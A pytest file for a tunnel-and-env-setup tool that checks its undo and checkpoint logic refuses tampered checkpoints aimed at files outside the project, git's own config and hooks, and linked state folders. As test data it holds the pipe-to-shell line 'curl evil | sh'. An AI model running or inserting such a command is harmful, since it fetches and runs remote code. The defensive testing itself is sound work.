"""What a repository brings along is not believed; what this user did is known from elsewhere."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.program import QUICK_TUNNEL, SOURCE, Shop, make_shop, run, tunnelling
from twitter_setup.state.journal import digest

PLANTED = b"curl evil | sh\n"


@pytest.fixture
def shop(tmp_path: Path) -> Shop:
    return make_shop(tmp_path / "cafe")


def plant(shop: Shop, victim: Path, *, as_named: str = "", ending: str = ".pending.json") -> Path:
    """A pending checkpoint, as a cloned repository could hold one, that would rewrite `victim`."""
    line = base64.b64encode(victim.read_bytes().rstrip()).decode()
    evil = base64.b64encode(PLANTED.rstrip()).decode()
    step = {"before": digest(PLANTED), "after": digest(b"never"), "patches": []}
    record = {
        "path": as_named or str(victim),
        "steps": [{**step, "hunks": [{"old": [evil], "new": [line]}]}],
    }
    checkpoint = {"version": 1, "number": 1, "kind": "passing", "created": "x", "files": [record]}
    folder = shop.state / "checkpoints"
    folder.mkdir(parents=True)
    path = folder / f"0001-passing{ending}"
    path.write_text(json.dumps(checkpoint))
    return path


@pytest.mark.parametrize("words", [["undo"], [*QUICK_TUNNEL]])
def test_a_checkpoint_that_names_a_file_outside_is_refused(
    shop: Shop, tmp_path: Path, words: list[str]
) -> None:
    victim = tmp_path / "bashrc"
    victim.write_bytes(b"export PATH\n")
    plant(shop, victim)

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert str(victim) in done.error["message"]
    assert victim.read_bytes() == b"export PATH\n"


@pytest.mark.parametrize("named", ["relative", "whole", "through a link", "in capitals"])
@pytest.mark.parametrize("words", [["verify", "project"], ["urls"], ["undo"]])
def test_a_checkpoint_that_names_a_file_of_git_s_own_is_refused(
    shop: Shop, words: list[str], named: str
) -> None:
    """git would run what that file names, at the next `git status`."""
    config = shop.root / ".git" / "config"
    config.write_bytes(b"[core]\n")
    link = shop.backend / ".env.local"
    link.symlink_to(config)
    (shop.root / ".GIT").mkdir()
    names = {
        "relative": ".git/config",
        "whole": str(config),
        "through a link": str(link),
        "in capitals": str(shop.root / ".GIT" / "config"),
    }
    plant(shop, config, as_named=names[named])

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert names[named] in done.error["message"]
    assert config.read_bytes() == b"[core]\n"


@pytest.mark.parametrize("ending", [".json", ".pending.json"])
@pytest.mark.parametrize("form", ["with its end", "of the former format"])
@pytest.mark.parametrize(
    "name",
    ["package.json", ".git/config", ".husky/pre-commit", "Makefile", ".envrc", "src/server.js"],
)
def test_a_checkpoint_that_names_what_no_session_changes_is_refused(
    shop: Shop, name: str, form: str, ending: str
) -> None:
    victim = shop.root / name
    victim.parent.mkdir(exist_ok=True)
    victim.write_bytes(b"all:\n")
    path = plant(shop, victim, ending=ending)
    if form == "with its end":
        data = json.loads(path.read_text())
        data["ends"] = {"repository": ".."}
        data["files"][0] |= {"end": "repository", "path": name}
        path.write_text(json.dumps(data))

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert str(victim) in done.error["message"]
    assert "no session changes" in done.error["message"]
    assert victim.read_bytes() == b"all:\n"


def test_a_checkpoint_cannot_lead_out_of_the_project_by_its_ends(
    shop: Shop, tmp_path: Path
) -> None:
    victim = tmp_path / "elsewhere" / ".env"
    victim.parent.mkdir()
    victim.write_bytes(b"A=1\n")
    path = plant(shop, victim)
    data = json.loads(path.read_text())
    data["ends"] = {"frontend": "../../elsewhere"}
    data["files"][0] |= {"end": "frontend", "path": ".env"}
    path.write_text(json.dumps(data))

    done = run("undo", "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "checkpoint_broken")
    assert "outside this project" in done.error["message"]
    assert victim.read_bytes() == b"A=1\n"


def test_a_checkpoint_of_the_former_format_is_undone(shop: Shop) -> None:
    before = shop.files()
    run(*QUICK_TUNNEL, cwd=shop.root)
    for path in (shop.state / "checkpoints").iterdir():
        data = json.loads(path.read_text())
        ends = data.pop("ends")
        for file in data["files"]:
            folder = shop.backend / ends[file.pop("end")]
            file["path"] = os.path.normpath(folder / file["path"])
        path.write_text(json.dumps({**data, "version": 1, "mark": "0" * 64}))

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert shop.files() == before


def test_without_a_home_what_was_written_is_put_back(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
    before = shop.files()
    run(*QUICK_TUNNEL, cwd=shop.root)
    assert shop.files() != before

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert shop.files() == before


def test_a_project_that_was_moved_is_undone(shop: Shop, tmp_path: Path) -> None:
    before = shop.files()
    run(*QUICK_TUNNEL, cwd=shop.root)
    shop.root.rename(tmp_path / "moved")
    moved = Shop(tmp_path / "moved")
    assert moved.files() != before

    done = run("undo", "--all", "--json", cwd=moved.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert {Path(path).parts[-2] for path in done.json["data"]["restored"]} >= {
        "backend",
        "frontend",
    }
    assert moved.files() == before


def test_the_env_file_of_the_settings_is_undone_in_a_moved_project_too(
    shop: Shop, tmp_path: Path
) -> None:
    (shop.root / "twitter-setup.toml").write_text('[frontend]\nenv_file = "env/web.txt"\n')
    given = shop.frontend / "env" / "web.txt"
    given.parent.mkdir()
    (shop.frontend / ".env").rename(given)
    before = given.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    assert given.read_bytes() != before
    shop.root.rename(tmp_path / "moved")

    done = run("undo", "--json", cwd=tmp_path / "moved")

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert (tmp_path / "moved" / "frontend" / "env" / "web.txt").read_bytes() == before


@pytest.mark.parametrize("target", ["shared/dev.txt", "../dev.txt"])
def test_what_a_link_leads_to_is_undone_whatever_it_is_called(shop: Shop, target: str) -> None:
    real = shop.backend / target
    real.parent.mkdir(exist_ok=True)
    shop.env.rename(real)
    shop.env.symlink_to(real)
    before = real.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    assert real.read_bytes() != before

    done = run("undo", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert real.read_bytes() == before


def test_a_lasting_change_behind_a_link_stays_undoable_after_the_session(
    shop: Shop, tmp_path: Path
) -> None:
    real = tmp_path / "shared" / "base.js"
    real.parent.mkdir()
    shop.config.rename(real)
    shop.config.symlink_to(real)
    before = real.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    assert real.read_bytes() != before
    for words in (("undo",), QUICK_TUNNEL, ("undo",)):
        assert run(*words, cwd=shop.root).code == 0

    done = run("undo", "--all", "--json", cwd=shop.root)

    assert done.code == 0
    assert real.read_bytes() == before


_ELSEWHERE = (
    *("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes"),
    *("--env-var", "VITE_BACKEND_URL"),
)


def test_two_repositories_side_by_side_are_undone(tmp_path: Path) -> None:
    """The front end is known to `undo` by the user's own list."""
    shop = make_shop(tmp_path / "cafe", with_frontend=False)
    web = make_shop(tmp_path / "web").frontend
    before = (web / ".env").read_bytes()
    assert run(*_ELSEWHERE, "--frontend", web, cwd=shop.root).code == 0
    assert b"a.example.com" in (web / ".env").read_bytes()

    done = run("undo", "--json", cwd=shop.root)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert (web / ".env").read_bytes() == before


def test_a_front_end_that_was_named_from_here_is_undone_from_elsewhere(tmp_path: Path) -> None:
    shop = make_shop(tmp_path / "cafe", with_frontend=False)
    make_shop(tmp_path / "other").frontend.rename(tmp_path / "web")
    env = tmp_path / "web" / ".env"
    before = env.read_bytes()
    assert run(*_ELSEWHERE, "--frontend", "../../web", cwd=shop.backend).code == 0
    assert b"a.example.com" in env.read_bytes()

    done = run("undo", "--backend", shop.backend, "--json", cwd=tmp_path)

    assert (done.code, done.json["data"]["kept"]) == (0, [])
    assert env.read_bytes() == before


def test_a_link_that_leads_out_is_said(shop: Shop, tmp_path: Path) -> None:
    real = tmp_path / "shared.env"
    real.write_bytes(shop.env.read_bytes())
    shop.env.unlink()
    shop.env.symlink_to(real)

    done = run(*QUICK_TUNNEL, cwd=shop.root)

    assert f"the file that is changed is {real}" in done.err


@pytest.mark.parametrize("name", ["session.json", "gateway.log", "checkpoints", ".gitignore"])
@pytest.mark.parametrize("words", [QUICK_TUNNEL, ("undo",), ("status",)])
def test_a_folder_of_ours_with_a_link_in_it_is_not_used(
    shop: Shop, tmp_path: Path, name: str, words: tuple[str, ...]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "profile").write_bytes(b"export PATH\n")
    shop.state.mkdir()
    is_folder = name == "checkpoints"
    (shop.state / name).symlink_to(outside if is_folder else outside / "profile")

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "not_writable")
    assert f"{shop.state / name} is a link" in done.error["message"]
    assert (outside / "profile").read_bytes() == b"export PATH\n"
    assert [path.name for path in outside.iterdir()] == ["profile"]


@pytest.mark.parametrize("words", [QUICK_TUNNEL, ("undo",), ("status",), ("urls",)])
def test_a_folder_of_ours_that_git_tracks_is_not_used(shop: Shop, words: tuple[str, ...]) -> None:
    before = shop.config.read_bytes()
    plant(shop, shop.config)
    (shop.root / ".git").rmdir()
    for command in (("init", "-q"), ("add", "-f", "backend/.twitter-setup")):
        subprocess.run(["git", *command], cwd=shop.root, check=True)

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "not_writable")
    assert f"{shop.state} is not used: git tracks it" in done.error["message"]
    assert shop.config.read_bytes() == before

    advised = done.error["advice"][0]["command"]
    subprocess.run(advised, shell=True, cwd=shop.root, check=True)
    assert run("status", "--json", cwd=shop.root).code == 0


@pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0, reason="only root gives files away")
@pytest.mark.parametrize("words", [QUICK_TUNNEL, ("undo",)])
def test_a_folder_of_ours_that_another_user_owns_is_not_used(
    shop: Shop, words: tuple[str, ...]
) -> None:
    before = shop.config.read_bytes()
    plant(shop, shop.config)
    os.chown(shop.state, 1234, 1234)

    done = run(*words, "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "not_writable")
    assert "it belongs to another user" in done.error["message"]
    assert shop.config.read_bytes() == before


def test_a_gitignore_that_a_repository_brought_cannot_have_our_secrets_committed(
    shop: Shop,
) -> None:
    shop.state.mkdir()
    (shop.state / ".gitignore").write_text("!*\n")

    run(*QUICK_TUNNEL, cwd=shop.root)

    assert (shop.state / ".gitignore").read_bytes() == b"*\n"


def test_a_session_file_cannot_make_us_end_a_process_with_another_configuration(
    shop: Shop,
) -> None:
    run(*QUICK_TUNNEL, cwd=shop.root)
    marker = "/somebody/else.yml"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", marker])
    session = shop.state / "session.json"
    data = json.loads(session.read_text())
    session.write_text(json.dumps({**data, "agent_pid": other.pid, "agent_config": marker}))
    try:
        assert run("undo", cwd=shop.root).code == 0
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


def test_a_broken_session_does_not_keep_undo_from_its_work(shop: Shop) -> None:
    before = shop.env.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    (shop.state / "session.json").write_text('{"pid": 1')

    done = run("undo", cwd=shop.root)

    assert done.code == 0
    assert shop.env.read_bytes() == before


def test_undo_and_status_are_about_the_back_end_that_one_stands_in(tmp_path: Path) -> None:
    one, two = make_shop(tmp_path / "apps" / "a"), make_shop(tmp_path / "apps" / "b")
    (tmp_path / ".git").mkdir()
    run(*QUICK_TUNNEL, cwd=one.backend)
    changed = one.env.read_bytes()

    assert run("status", "--json", cwd=two.backend).json["data"]["changes"] == []
    assert run("undo", "--json", cwd=two.backend).json["data"]["restored"] == []

    assert one.env.read_bytes() == changed


@pytest.mark.parametrize("command", ["undo", "status", "urls"])
def test_a_mistyped_back_end_is_no_success(shop: Shop, command: str) -> None:
    done = run(command, "--backend", "/nowhere/at/all", "--json", cwd=shop.root)

    assert (done.code, done.error["code"]) == (1, "no_project")


def test_a_home_that_cannot_be_used_stops_nothing(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/dev/null")
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")

    assert run(*QUICK_TUNNEL, cwd=shop.root).code == 0
    assert run("undo", cwd=shop.root).code == 0


def test_a_flag_wins_over_the_other_one_s_variable(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NGROK_DOMAIN", "foo.ngrok.app")

    done = run(
        "tunnel",
        "--two-origins",
        "--url",
        "https://a.example.com",
        "--dry-run",
        "--json",
        cwd=shop.root,
    )

    assert done.code == 0
    assert "https://a.example.com" in done.out


def test_after_kill_9_urls_puts_back_first_and_calls_the_session_by_its_name(shop: Shop) -> None:
    before = shop.env.read_bytes()
    run(*QUICK_TUNNEL, cwd=shop.root)
    session = shop.state / "session.json"
    session.write_text(session.read_text().replace('"kept": true', '"kept": false'))

    done = run("urls", cwd=shop.root)

    assert "ended from outside" in done.err
    assert "Of last time" in done.out
    assert shop.env.read_bytes() == before


def test_a_path_that_is_not_utf8_is_no_bug(tmp_path: Path) -> None:
    folder = Path(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9"))
    shop = make_shop(folder)
    before = shop.env.read_bytes()

    done = run(
        *QUICK_TUNNEL,
        "--json",
        cwd=shop.root,
    )

    assert done.code == 0
    assert run("undo", cwd=shop.root).code == 0
    assert shop.env.read_bytes() == before


def test_nohup_holds(shop: Shop, tmp_path: Path) -> None:
    from tests.world import agent

    env = {
        "PYNGROK_NGROK_PATH": str(agent.install_agent(tmp_path / "bin")),
        "NGROK_AUTHTOKEN": "2abcDEF_ghijKLMN0123456789",
        "STANDIN_STATE": str(tmp_path / "ngrok"),
        "PYTHONPATH": str(SOURCE),
    }
    former = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        with tunnelling(cwd=shop.root, env=env) as tunnel:
            tunnel.event("ready")
            tunnel.process.send_signal(signal.SIGHUP)
            time.sleep(0.6)
            assert tunnel.process.poll() is None
            assert tunnel.stop() == 0
    finally:
        signal.signal(signal.SIGHUP, former)
